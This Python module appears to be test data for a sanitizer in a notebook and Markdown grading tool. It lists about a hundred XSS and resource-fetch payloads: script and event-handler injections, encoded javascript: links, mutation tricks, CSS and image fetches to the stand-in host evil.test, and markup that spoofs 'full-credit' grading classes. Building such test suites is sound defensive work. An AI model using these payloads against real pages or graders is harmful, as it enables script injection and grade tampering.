"""What somebody writes, or lets a cell display, so that it runs in the browser of whoever reads it,
or fetches something from elsewhere.

Each one, where it works, sets `window.hit` (`HIT`) or asks for something at http://evil.test.
"""

from base64 import b64encode

HIT = "window.hit=1"
EVIL = "http://evil.test"


def coded(text):
    """A text as base64."""
    return b64encode(text.encode()).decode()


FRAME = f"<script>parent.{HIT}</script>"
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>'

#: {name: Markdown with raw HTML, as a written answer}; what is HTML alone may be displayed, too.
HTML = {
    "script": f"<script>{HIT}</script>",
    "script_in_a_script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script_elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "script_never_closed": f"<script>{HIT}",
    "svg_onload": f'<svg onload="{HIT}">',
    "svg_script": DRAWING,
    "svg_use": f'<svg><use href="data:image/svg+xml;base64,{coded(DRAWING)}#x"></use></svg>',
    "svg_animate": f'<svg><a><animate attributeName=href values="javascript:{HIT}"/></a></svg>',
    "svg_style": f"<svg><style><img src=x onerror={HIT}></style></svg>",
    "foreign_object": f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    "math_link": f'<math><mtext><a xlink:href="javascript:{HIT}">x</a></mtext></math>',
    "math_mutation": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>"
    ),
    "noscript_mutation": f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    "comment_mutation": f"<!--><img src=x onerror={HIT}>-->",
    "comment_bang": f"<!-- --!><img src=x onerror={HIT}> -->",
    "cdata": f"<![CDATA[<img src=x onerror={HIT}>]]>",
    "template": f"<template><img src=x onerror={HIT}></template><img src=x onerror={HIT}>",
    "textarea": f"<textarea></textarea><img src=x onerror={HIT}>",
    "img_onerror": f'<img src="x" onerror="{HIT}">',
    "img_onerror_by_slashes": f"<img/src=x/onerror={HIT}>",
    "img_without_an_end": f"<img src=x onerror={HIT} //",
    "img_backticks": f"<img src=`x` onerror={HIT}>",
    "img_elsewhere": f'<img src="{EVIL}/a.png">',
    "img_srcset": f'<img srcset="{EVIL}/a.png 1x" src="">',
    "img_data_html": f'<img src="data:text/html;base64,{coded(FRAME)}" onerror="{HIT}">',
    "picture_source": f'<picture><source srcset="{EVIL}/a.png"><img></picture>',
    "details_ontoggle": f'<details open ontoggle="{HIT}"><summary>x</summary></details>',
    "body_onload": f'<body onload="{HIT}" background="{EVIL}/a.png">',
    "input_autofocus": f'<input autofocus onfocus="{HIT}">',
    "autofocus_anywhere": f'<p tabindex=0 autofocus onfocus="{HIT}">x</p>',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "video": f'<video autoplay onloadstart="{HIT}"><source src="{EVIL}/a.mp4"></video>',
    "audio": f'<audio src="{EVIL}/a.ogg" autoplay onerror="{HIT}"></audio>',
    "animation": (
        f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{HIT}">'
    ),
    "link_javascript": f'<a href="javascript:{HIT}">link</a>',
    "link_by_entities": f'<a href="java&#115;cript&colon;{HIT}">link</a>',
    "link_by_entities_without_ends": f'<a href="&#x6A&#x61vascript&#58{HIT}">link</a>',
    "link_with_a_tab": f'<a href="java\tscript:{HIT}">link</a>',
    "link_after_a_control_character": f'<a href="\x01javascript:{HIT}">link</a>',
    "link_vbscript": f'<a href="VBScript:{HIT}">link</a>',
    "link_data": f'<a href="data:text/html;base64,{coded(FRAME)}">link</a>',
    "link_to_a_handed_in_page": '<a href="evil.html">link</a>',
    "link_to_the_server": '<a href="/files/grading/submitted/x/evil.html">link</a>',
    "link_without_a_scheme": '<a href="//evil.test/">link</a>',
    "link_ping": f'<a href="{EVIL}/" ping="{EVIL}/ping">link</a>',
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "iframe_srcdoc": f'<iframe srcdoc="{FRAME}"></iframe>',
    "iframe_javascript": f'<iframe src="javascript:parent.{HIT}"></iframe>',
    "object": f'<object data="data:text/html;base64,{coded(FRAME)}"></object>',
    "embed": f'<embed src="data:image/svg+xml;base64,{coded(DRAWING)}">',
    "form": f'<form action="{EVIL}/"><button>Full credit</button></form>',
    "form_javascript": f'<form action="javascript:{HIT}"><input type=submit></form>',
    "button_formaction": f'<button formaction="javascript:{HIT}" form="f">x</button>',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link_stylesheet": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "link_prefetch": f'<link rel="prefetch" href="{EVIL}/a">',
    "style_import": f'<style>@import "{EVIL}/a.css";</style>',
    "style_background": f'<p style="background:url({EVIL}/a.png)">x</p>',
    "style_escaped": rf'<p style="background:\75rl({EVIL}/a.png)">x</p>',
    "style_image_set": f"<p style=\"background:image-set('{EVIL}/a.png' 1x)\">x</p>",
    "style_cursor": f'<p style="cursor:url({EVIL}/a.cur),auto">x</p>',
    "style_list": f'<ul style="list-style:url({EVIL}/a.png)"><li>x</li></ul>',
    "style_variable": f'<p style="--a:url({EVIL}/a.png);background:var(--a)">x</p>',
    "style_expression": f'<p style="width:expression({HIT})">x</p>',
    "style_binding": f'<p style="-moz-binding:url({EVIL}/a.xml#x)">x</p>',
    "style_overlay": '<a style="position:fixed;inset:0;opacity:0" href="https://evil.test/">x</a>',
    "class_of_the_form": '<span class="full-credit mark-graded">x</span>',
    "id_of_the_form": '<img id="submission_id" name="base_url"><p id="explain">x</p>',
    "closing_tags": f"</div></div></body></html><script>{HIT}</script>",
    "isolated_tag": f"<xss onpointerenter={HIT} contenteditable>x</xss>",
    "null_byte": f"<scr\0ipt>{HIT}</scr\0ipt><img src=x o\0nerror={HIT}>",
}
#: {name: Markdown}: no raw HTML, or only where Markdown makes it.
MARKDOWN = {
    "link": f"[link](javascript:{HIT})",
    "link_in_angles": f"[link](<javascript:{HIT}>)",
    "link_by_entities": f"[link](javascript&colon;{HIT})",
    "link_by_hex_entities": f"[link](&#x6a;avascript:{HIT})",
    "link_in_capitals": f"[link](JaVaScRiPt:{HIT})",
    "link_data": f"[link](data:text/html;base64,{coded(FRAME)})",
    "link_title": f'[link](https://a.test "x\\" onmouseover=\\"{HIT}")',
    "reference": f"[link][a]\n\n[a]: javascript:{HIT}",
    "autolink": f"<javascript:{HIT}>",
    "image": f"![x]({EVIL}/a.png)",
    "image_javascript": f"![x](javascript:{HIT})",
    "image_alt": f'![x" onerror="{HIT}](x.png)',
    "code": f"`<img src=x onerror={HIT}>`",
    "fence": f"```html\n<script>{HIT}</script>\n```",
    "fence_language": f'```"><img/src=x/onerror={HIT}>\nx\n```',
    "mermaid": f"```mermaid\n</pre><img src=x onerror={HIT}>\n```",
    "formula": f"$$<img src=x onerror={HIT}>$$",
    "formula_link": rf"$\href{{javascript:{HIT}}}{{x}}$",
    "environment": f"\\begin{{a}}<img src=x onerror={HIT}>\\end{{a}}",
    "link_in_code_after_a_blank_line": f"`x`\n\n<p>\n\n`[link](javascript:{HIT})`",
    "table": f"|a|\n|-|\n|<img src=x onerror={HIT}>|",
    "heading": f"# <img src=x onerror={HIT}>",
    "attachment_missing": "![x](attachment:none.png)",
}
WRITTEN = {f"html_{name}": text for name, text in HTML.items()} | {
    f"markdown_{name}": text for name, text in MARKDOWN.items()
}


def display(data, **metadata):
    """An output of a cell."""
    return {"output_type": "display_data", "data": data, "metadata": metadata}


PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
    "AABJRU5ErkJggg=="
)
WIDGET = "application/vnd.jupyter.widget-view+json"
#: {name: an output}, which a notebook's process may send whatever way it likes.
DISPLAYED = {f"html_{name}": display({"text/html": text}) for name, text in HTML.items()} | {
    "markdown": display({"text/markdown": MARKDOWN["link"] + HTML["img_onerror"]}),
    "javascript": display({"application/javascript": HIT, "text/plain": "x"}),
    "javascript_alone": display({"application/javascript": HIT}),
    "svg": display({"image/svg+xml": DRAWING}),
    "svg_as_lines": display({"image/svg+xml": [DRAWING]}),
    "latex": display({"text/latex": f"<img src=x onerror={HIT}>"}),
    "plain": display({"text/plain": f"<img src=x onerror={HIT}>"}),
    "png_attribute": display({"image/png": f'" onerror="{HIT}" x="'}),
    "png_width": display({"image/png": PIXEL}, **{"image/png": {"width": f"1 onload={HIT}"}}),
    "png_alt": display({"image/png": PIXEL}, alt=f'" onload="{HIT}'),
    "png_file": display({"image/png": PIXEL}, filenames={"image/png": f"{EVIL}/a.png"}),
    "isolated": display({"text/html": FRAME}, **{"text/html": {"isolated": True}}),
    "widget": display(
        {WIDGET: {"model_id": f"</script><script>{HIT}</script>"}, "text/plain": "x"}
    ),
    "mermaid": display({"text/vnd.mermaid": f"</pre><script>{HIT}</script>"}),
    "unknown": display({"application/x-evil": FRAME}),
    "kind_with_html": display({f"a/<img src=x onerror={HIT}>": "x"}),
    "no_data": {"output_type": "display_data", "data": None, "metadata": None},
    "stream": {"output_type": "stream", "name": "stdout", "text": HTML["img_onerror"]},
    "stream_name": {"output_type": "stream", "name": f'"><script>{HIT}</script>', "text": "x"},
    "stream_escape": {
        "output_type": "stream",
        "name": "stderr",
        "text": f'\x1b[38;5;1"><img src=x onerror={HIT}>m\x1b[31m<img src=x onerror={HIT}>',
    },
    "error": {
        "output_type": "error",
        "ename": HTML["img_onerror"],
        "evalue": HTML["script"],
        "traceback": [f"\x1b[31m{HTML['img_onerror']}", HTML["svg_onload"]],
    },
    "error_without_lines": {"output_type": "error", "ename": 1, "evalue": [], "traceback": "x"},
    "kind": {"output_type": f"<script>{HIT}</script>"},
}
